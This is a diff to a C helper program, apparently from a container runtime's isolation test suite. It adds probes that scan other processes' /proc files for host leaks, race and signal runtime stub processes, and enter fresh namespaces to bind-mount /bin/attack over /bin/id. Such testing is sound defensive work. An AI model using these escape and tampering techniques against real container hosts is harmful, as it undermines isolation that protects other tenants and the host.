@@ -4,11 +4,13 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -65,6 +67,57 @@ static void look(int pid, const char *marker, int take)
 		got("the executable", pid);
 }
 
+/* What name below /proc/PID says, "" if it says nothing (any more). */
+static const char *text_of(int pid, const char *name)
+{
+	static char buf[65536];
+	char path[64];
+	size_t have = 0;
+	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	for (ssize_t n = 1; fd >= 0 && n > 0 && have < sizeof buf - 1; have += n > 0 ? (size_t)n : 0)
+		n = read(fd, buf + have, sizeof buf - 1 - have);
+	if (fd >= 0)
+		close(fd);
+	for (size_t i = 0; i < have; i++) /* lists of strings */
+		buf[i] = buf[i] ? buf[i] : ' ';
+	buf[have] = 0;
+	return buf;
+}
+
+/* The host's root file system is mounted with its own root; the container's is a directory of one. */
+static int hosts_mounts(const char *line)
+{
+	char root[256], at[256];
+	for (; line; line = strchr(line, '\n'), line = line ? line + 1 : NULL)
+		if (sscanf(line, "%*d %*d %*s %255s %255s", root, at) == 2 && strcmp(root, "/") == 0 && strcmp(at, "/") == 0)
+			return 1;
+	return 0;
+}
+
+/* What needs no right at all, and what nobody may read of a process of the runtime. The host has an abstract socket that is named
+ * after the marker; its root is in group 4242, and neither is known in a user namespace. */
+static void glance(int pid, const char *marker, int take)
+{
+	static const char *const shut[] = {"environ", "maps", "smaps", "numa_maps", "auxv", "syscall", "timerslack_ns", NULL};
+	const char *text;
+	if (strstr(text_of(pid, "net/unix"), marker))
+		got("the host's network", pid);
+	if (access("/no-mounts", F_OK) != 0 && hosts_mounts(text_of(pid, "mountinfo")))
+		got("the host's mounts", pid);
+	if (strstr(text_of(pid, "mounts"), marker) || strstr(text_of(pid, "mountstats"), marker))
+		got("a mount of the host", pid);
+	text = strstr(text_of(pid, "status"), "\nGroups:");
+	if (text && (strstr(text, "\t4242 ") || strstr(text, " 4242 ") || strncmp(text + 8, "\t65534", 6) == 0))
+		got("the groups of the host's root", pid);
+	text = strstr(text_of(pid, "status"), "\nUid:");
+	if (text && strncmp(text + 5, "\t65534\t65534\t65534", 18) == 0 && getuid() != 65534)
+		got("a user of the host", pid);
+	for (int i = 0; take && shut[i]; i++)
+		if ((text = text_of(pid, shut[i]), strstr(text, "_RT_STUB=") || strstr(text, "memfd:rt")))
+			got(shut[i], pid);
+}
+
 static void seize(int pid)
 {
 	int status;
@@ -86,8 +139,12 @@ static int snoop(const char *marker, int take)
 			snprintf(path, sizeof path, "/proc/%d", pid);
 			if (access(path, F_OK) != 0)
 				continue;
-			for (int i = 0; i < 40 && access(path, F_OK) == 0; i++) {
-				stubs += is_stub(pid);
+			for (int i = 0, seen = 0; i < 40 && access(path, F_OK) == 0; i++) {
+				int stub = is_stub(pid);
+				if (stub && !seen++)
+					printf("saw %d\n", pid), fflush(stdout);
+				stubs += stub;
+				glance(pid, marker, take);
 				look(pid, marker, take);
 				if (take)
 					seize(pid);
@@ -101,16 +158,56 @@ static int snoop(const char *marker, int take)
 /* strike SIGNAL N: send a signal to the next process that comes while it is the runtime's, N times; until /stop. */
 static int strike(int sig, int times)
 {
+	char path[64];
 	int next = getpid() + 1;
-	while (times > 0 && access("/stop", F_OK) != 0)
-		for (int pid = next; pid < next + 3; pid++) {
+	for (unsigned turn = 0; times > 0 && access("/stop", F_OK) != 0; turn++)
+		for (int pid = next, end = next + (turn % 64 ? 3 : 512); pid < end; pid++) {
 			if (is_stub(pid) && kill(pid, sig) == 0) {
 				printf("struck %d\n", pid), fflush(stdout);
 				times--;
 				next = pid + 1;
+			} else if (snprintf(path, sizeof path, "/proc/%d", pid) && access(path, F_OK) == 0) {
+				next = pid; /* it is the program already, and will be gone; or it is still to come */
 			}
 		}
 	return 0;
+}
+
+static int put(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0)
+		return -1;
+	ssize_t n = write(fd, text, strlen(text));
+	close(fd);
+	return n < 0 ? -1 : 0;
+}
+
+/* leave: go into a user and a mount namespace of one's own, and be /bin/id there. */
+static int leave(void)
+{
+	char map[64];
+	snprintf(map, sizeof map, "0 %d 1", (int)getuid());
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || put("/proc/self/uid_map", map) < 0)
+		return perror("unshare"), 1;
+	if (mount("/bin/attack", "/bin/id", NULL, MS_BIND, NULL) < 0)
+		return perror("mount"), 1;
+	return printf("left\n"), fflush(stdout), pause();
+}
+
+/* cycle: go into one mount namespace after another, until one has the number of the first; with the first's user namespace. */
+static int cycle(void)
+{
+	struct stat first, now;
+	if (stat("/proc/self/ns/mnt", &first) < 0)
+		return perror("stat"), 1;
+	for (int i = 0; i < 200000; i++) {
+		if (unshare(CLONE_NEWNS) < 0 || stat("/proc/self/ns/mnt", &now) < 0)
+			return perror("unshare"), 1;
+		if (now.st_ino == first.st_ino)
+			return printf("left\n"), fflush(stdout), pause();
+	}
+	return printf("left, but for another number\n"), fflush(stdout), pause();
 }
 
 /* exchange A B: swap two names, again and again, until killed. */
@@ -228,6 +325,10 @@ int main(int argc, char **argv)
 		return snoop(argv[2], verb[0] == 's');
 	if (strcmp(verb, "strike") == 0 && argc == 4)
 		return strike(atoi(argv[2]), atoi(argv[3]));
+	if (strcmp(verb, "leave") == 0)
+		return leave();
+	if (strcmp(verb, "cycle") == 0)
+		return cycle();
 	if (strcmp(verb, "exchange") == 0 && argc == 4)
 		return exchange(argv[2], argv[3]);
 	if (strcmp(verb, "ruin") == 0 && argc == 3)
